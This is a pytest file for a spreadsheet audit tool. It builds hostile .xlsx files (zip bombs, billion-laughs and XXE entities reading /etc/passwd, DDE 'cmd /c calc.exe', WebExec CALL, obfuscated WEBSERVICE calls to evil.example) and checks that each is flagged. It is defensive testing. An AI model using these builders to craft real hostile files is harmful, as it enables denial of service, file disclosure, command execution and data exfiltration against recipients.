"""The hostile corpus: files a bank may receive by e-mail, made by the tests.

Each file gives a clear finding or error within 10 s in a fresh process, with bounded memory,
no traceback, and the input's bytes and modification time unchanged. The builders here are also
used by the other audit tests (tampered copies of the examples).
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import ROOT

from xlcoop.layout import SHEETS, get_column_letter, layout

_FRESH: dict[str, Path] = {}


def fresh_example() -> Path:
    """Example A written now by the writer (the committed copy may lag the registry)."""
    if "a" not in _FRESH:
        import tempfile

        from xlcoop import scenario as scenario_file
        from xlcoop.workbook.writer import write_workbook

        folder = Path(tempfile.mkdtemp(prefix="xlcoop-audit-example-"))
        _FRESH["a"] = write_workbook(folder / "stappenplan-a.xlsx", scenario_file.load(
            ROOT / "examples" / "stappenplan-a.toml"))
    return _FRESH["a"]
TIME_LIMIT = 10.0
MEMORY_LIMIT_MB = 200  # peak RSS of the `xlcoop audit` process (measured: under 80 MB)


# -- builders ----------------------------------------------------------------------------------
def zip_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def write_zip(path: Path, parts: dict[str, bytes], level: int | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def sheet_part(parts: dict[str, bytes], sheet_key: str, lang: str = "nl") -> str:
    """The worksheet part of a sheet, found through workbook.xml and its relationships."""
    title = next(s for s in SHEETS if s.key == sheet_key).title(lang)
    book = parts["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet[^>]*name="{re.escape(title)}"[^>]*r:id="(\w+)"|'
                    rf'<sheet[^>]*r:id="(\w+)"[^>]*name="{re.escape(title)}"', book)
    assert rid, title
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Id="{rid.group(1) or rid.group(2)}"[^>]*Target="([^"]+)"|'
                       rf'Target="([^"]+)"[^>]*Id="{rid.group(1) or rid.group(2)}"', rels)
    assert target
    t = target.group(1) or target.group(2)
    return t.lstrip("/") if t.startswith("/") else "xl/" + t


def where(name: str, lang: str = "nl") -> tuple[str, str, str]:
    """(sheet key, sheet title, 'C39') of a single-cell defined name, from the registry."""
    key, row, col = layout().cells[name]
    title = next(s for s in SHEETS if s.key == key).title(lang)
    return key, title, f"{get_column_letter(col)}{row}"


def edit_cell(src: Path, dst: Path, name: str, new_xml: Callable[[str, str], str]) -> Path:
    """Copy ``src`` with the cell of ``name`` replaced: new_xml(address, old <c> xml)."""
    parts = zip_parts(src)
    key, _, addr = where(name)
    part = sheet_part(parts, key)
    xml = parts[part].decode()
    m = re.search(rf'<c r="{addr}"[^>]*?(?:/>|>.*?</c>)', xml, re.S)
    assert m, (name, addr)
    parts[part] = (xml[: m.start()] + new_xml(addr, m.group()) + xml[m.end():]).encode()
    return write_zip(dst, parts)


def overwrite_with_number(src: Path, dst: Path, name: str, value: float) -> Path:
    return edit_cell(src, dst, name, lambda a, old: f'<c r="{a}" t="n"><v>{value}</v></c>')


def alter_formula(src: Path, dst: Path, name: str, formula: str) -> Path:
    def swap(addr: str, old: str) -> str:
        return re.sub(r"<f>.*?</f>|<f [^>]*>.*?</f>", f"<f>{formula}</f>", old, count=1,
                      flags=re.S)

    return edit_cell(src, dst, name, swap)


def set_value(src: Path, dst: Path, name: str, value: float) -> Path:
    def swap(addr: str, old: str) -> str:
        style = re.search(r' s="(\d+)"', old)
        s = f' s="{style.group(1)}"' if style else ""
        return f'<c r="{addr}"{s} t="n"><v>{value}</v></c>'

    return edit_cell(src, dst, name, swap)


def insert_row_like_excel(src: Path, dst: Path, sheet_key: str, row: int,
                          lang: str = "nl") -> Path:
    """Insert a row as Excel does: cells below move down and defined names move with them."""
    import openpyxl

    title = next(s for s in SHEETS if s.key == sheet_key).title(lang)
    wb = openpyxl.load_workbook(src)
    wb[title].insert_rows(row)
    pattern = re.compile(r"(\$?[A-Z]{1,3}\$)(\d+)")
    for dn in wb.defined_names.values():
        if dn.attr_text.startswith((f"'{title}'!", f"{title}!")):
            dn.attr_text = pattern.sub(
                lambda m: m.group(1) + str(int(m.group(2)) + (int(m.group(2)) >= row)),
                dn.attr_text)
    wb.save(dst)
    return dst


def insert_col_like_excel(src: Path, dst: Path, sheet_key: str, col: int,
                          lang: str = "nl") -> Path:
    import openpyxl

    title = next(s for s in SHEETS if s.key == sheet_key).title(lang)
    wb = openpyxl.load_workbook(src)
    wb[title].insert_cols(col)
    pattern = re.compile(r"\$([A-Z]{1,3})\$")
    from openpyxl.utils import column_index_from_string

    def shift(m: re.Match[str]) -> str:
        c = column_index_from_string(m.group(1))
        return f"${get_column_letter(c + (c >= col))}$"

    for dn in wb.defined_names.values():
        if dn.attr_text.startswith((f"'{title}'!", f"{title}!")):
            dn.attr_text = pattern.sub(shift, dn.attr_text)
    wb.save(dst)
    return dst


# -- the hostile corpus --------------------------------------------------------------------------
def zip_bomb(path: Path) -> Path:
    """A 200 MB sheet of zeros that compresses to ~200 kB (ratio ~1000)."""
    parts = zip_parts(fresh_example())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            block = b"0" * 2**20
            for _ in range(200):
                fh.write(block)
    return path


def lying_zip_bomb(path: Path) -> Path:
    """An entry whose header claims 1 kB but that inflates to 50 MB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, part in zip_parts(fresh_example()).items():
            zf.writestr(name, part)
        zf.writestr("xl/media/blob.bin", b"\0" * (50 * 2**20))
    data = bytearray(buf.getvalue())
    # Patch the declared uncompressed size (local header and central directory) to 1024.
    name = b"xl/media/blob.bin"
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = 0
        while (pos := data.find(sig, pos)) >= 0:
            name_len_at = 26 if sig == b"PK\x03\x04" else 28
            n = int.from_bytes(data[pos + name_len_at: pos + name_len_at + 2], "little")
            head = 30 if sig == b"PK\x03\x04" else 46
            if data[pos + head: pos + head + n] == name:
                data[pos + offset: pos + offset + 4] = (1024).to_bytes(4, "little")
            pos += 4
    path.write_bytes(bytes(data))
    return path


def billion_laughs(path: Path) -> Path:
    """Ten levels of ten-fold entity expansion: 10^9 'lol's if a parser expanded them."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    parts = zip_parts(fresh_example())
    book = parts["xl/workbook.xml"].decode()
    decl = re.match(r"<\?xml[^>]*\?>", book)
    head = decl.group() if decl else ""
    body = book[len(head):].replace("<sheets>", "<sheets>&lol9;", 1)
    parts["xl/workbook.xml"] = (head + f"<!DOCTYPE workbook [{entities}]>" + body).encode()
    return write_zip(path, parts)


def external_entity(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    ss = ('<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
          '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          "<si><t>&xxe;</t></si></sst>")
    parts["xl/sharedStrings.xml"] = ss.encode()
    return write_zip(path, parts)


def with_macro(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    ct = parts["[Content_Types].xml"].decode().replace(
        "spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml")
    ct = ct.replace("</Types>", '<Default Extension="bin" ContentType="application/'
                    'vnd.ms-office.vbaProject"/></Types>')
    parts["[Content_Types].xml"] = ct.encode()
    return write_zip(path, parts)


def _add_external_link(parts: dict[str, bytes], body: str, target: str) -> None:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<?xml version="1.0"?><externalLink xmlns="{ns}">{body}</externalLink>').encode()
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId1" Type="{rel}/externalLinkPath" '
        f'Target="{target}" TargetMode="External"/></Relationships>').encode()


def external_link(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    _add_external_link(parts, '<externalBook xmlns:r="http://schemas.openxmlformats.org/'
                              'officeDocument/2006/relationships" r:id="rId1"/>',
                       "file:///C:/Users/x/Documents/echte-cijfers.xlsx")
    return write_zip(path, parts)


def dde(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    _add_external_link(parts, '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
                              "<ddeItems><ddeItem name=\"A0\"/></ddeItems></ddeLink>", "cmd")
    key, _, addr = where("projectnaam")
    part = sheet_part(parts, key)
    xml = parts[part].decode()
    xml = re.sub(rf'<c r="{addr}"[^>]*?(?:/>|>.*?</c>)',
                 f"<c r=\"{addr}\"><f>cmd|'/c calc.exe'!A0</f></c>", xml, count=1, flags=re.S)
    parts[part] = xml.encode()
    return write_zip(path, parts)


def webservice(path: Path) -> Path:
    return alter_formula(fresh_example(), path, "netto_cashflow",
                         '_xlfn.WEBSERVICE("https://evil.example/?"&amp;projectnaam)')


def truncated(path: Path) -> Path:
    data = fresh_example().read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def png_renamed(path: Path) -> Path:
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(
            ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) \
        + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    path.write_bytes(png)
    return path


def empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def big_sheet(path: Path) -> Path:
    """A 50 MB worksheet (rows of numbers): too big for a business case, so never parsed."""
    parts = zip_parts(fresh_example())
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rng = random.Random(6)
    # 64 kB of distinct rows, repeated: beyond deflate's 32 kB window, so it stays ~4x.
    block = "".join("<row>" + "".join(f"<c><v>{rng.random():.12f}</v></c>" for _ in range(8))
                    + "</row>" for _ in range(270))
    rows = block * (50 * 10**6 // len(block) + 1)
    xml = f'<?xml version="1.0"?><worksheet xmlns="{ns}"><sheetData>{rows}' \
          "</sheetData></worksheet>"
    assert len(xml) > 50 * 10**6
    parts["xl/worksheets/sheet2.xml"] = xml.encode()
    return write_zip(path, parts, level=1)  # 15 MB instead of 13 MB, a third of the time


def many_entries(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    for i in range(5000):
        parts[f"customXml/item{i}.xml"] = b"<a/>"
    return write_zip(path, parts)


def hidden_sheet(path: Path) -> Path:
    parts = zip_parts(fresh_example())
    book = parts["xl/workbook.xml"].decode()
    tag = list(re.finditer(r"<sheet [^>]*>", book))[-1]
    new = re.sub(r' state="\w+"', "", tag.group()).replace("<sheet ", '<sheet state="veryHidden" ')
    parts["xl/workbook.xml"] = book.replace(tag.group(), new).encode()
    return write_zip(path, parts)


# name -> (builder, expected finding code, expected exit status)
CORPUS: dict[str, tuple[Callable[[Path], Path], str, int]] = {
    "zip_bomb.xlsx": (zip_bomb, "zip_bomb", 2),
    "lying_zip_bomb.xlsx": (lying_zip_bomb, "damaged_zip", 2),
    "many_entries.xlsx": (many_entries, "zip_bomb", 2),
    "billion_laughs.xlsx": (billion_laughs, "xml_entities", 2),
    "external_entity.xlsx": (external_entity, "xml_entities", 2),
    "macro.xlsm": (with_macro, "macro", 2),
    "external_link.xlsx": (external_link, "external_link", 2),
    "dde.xlsx": (dde, "dde_link", 2),
    "webservice.xlsx": (webservice, "dangerous_function", 2),
    "truncated.xlsx": (truncated, "damaged_zip", 2),
    "png_renamed.xlsx": (png_renamed, "not_xlsx", 2),
    "empty.xlsx": (empty, "empty_file", 2),
    "big_sheet.xlsx": (big_sheet, "part_too_large", 2),
    "very_hidden.xlsx": (hidden_sheet, "very_hidden_sheet", 1),
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {name: build(folder / name) for name, (build, _, _) in CORPUS.items()}


# The command line in a fresh interpreter that reports its own peak memory (VmHWM: the high-water
# mark of this process image, not inherited from the forking test process) on stderr.
PEAK = ("import sys\nfrom xlcoop.cli import main\ncode = main(sys.argv[1:])\n"
        "try:\n    hwm = [ln for ln in open('/proc/self/status') if ln.startswith('VmHWM')]\n"
        "    sys.stderr.write('\\nPEAK_KB ' + hwm[0].split()[1] + '\\n')\n"
        "except OSError:\n    pass\nsys.exit(code)\n")


def run_audit(path: Path, *extra: str) -> tuple[subprocess.CompletedProcess[str], float, float]:
    """`xlcoop audit --json` in a fresh interpreter: (result, seconds, peak RSS in MB)."""
    env = {**os.environ, "TQDM_DISABLE": "1"}
    start = time.perf_counter()
    done = subprocess.run([sys.executable, "-c", PEAK, "audit", "--json", str(path), *extra],
                          capture_output=True, text=True, env=env, timeout=60)
    seconds = time.perf_counter() - start
    peak = re.search(r"PEAK_KB (\d+)", done.stderr)
    done.stderr = re.sub(r"\nPEAK_KB \d+\n", "", done.stderr)
    return done, seconds, int(peak.group(1)) / 1024 if peak else 0.0


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file_gives_a_clear_finding_fast_and_safely(name: str,
                                                            corpus: dict[str, Path]) -> None:
    path = corpus[name]
    before = (path.read_bytes(), path.stat().st_mtime_ns)
    done, seconds, peak_mb = run_audit(path)
    _, code, status = CORPUS[name]
    assert "Traceback" not in done.stderr and "Traceback" not in done.stdout, done.stderr
    assert done.returncode == status, (done.returncode, done.stdout[-2000:], done.stderr)
    report = json.loads(done.stdout)
    codes = [f["code"] for f in report["findings"]]
    assert code in codes, codes
    assert "internal_error" not in codes
    assert all(f["message"] for f in report["findings"])
    assert seconds < TIME_LIMIT, seconds
    assert peak_mb < MEMORY_LIMIT_MB, peak_mb
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


def test_a_file_that_is_not_there_is_unreadable(tmp_path: Path) -> None:
    """A bad path is a usage error (README, command line): one message, exit 2, no report."""
    done, _, _ = run_audit(tmp_path / "missing.xlsx")
    assert done.returncode == 2
    assert "bestand bestaat niet" in done.stderr and "Traceback" not in done.stderr
    assert done.stdout == ""


@pytest.mark.parametrize("formula", [
    '_xlfn.WEB&#x53;ERVICE("https://evil.example/?"&amp;projectnaam)',  # &#x53; is S
    'CA&#76;L("kernel32","WinExec","JCJ","calc",0)',  # &#76; is L
])
def test_a_function_name_spelled_with_character_references_is_found(formula: str,
                                                                     tmp_path: Path) -> None:
    """A spreadsheet reads &#76; as L: the scan must read the formula as it does, and the
    recompute then evaluates nothing of the file (an unsafe file gets no evaluation budget)."""
    from xlcoop.audit import audit

    path = alter_formula(fresh_example(), tmp_path / "t.xlsx", "netto_cashflow", formula)
    report = audit(path)
    assert report.status == "unsafe"
    assert [f.params["function"] for f in report.by_code("dangerous_function")] in (
        ["WEBSERVICE"], ["CALL"])
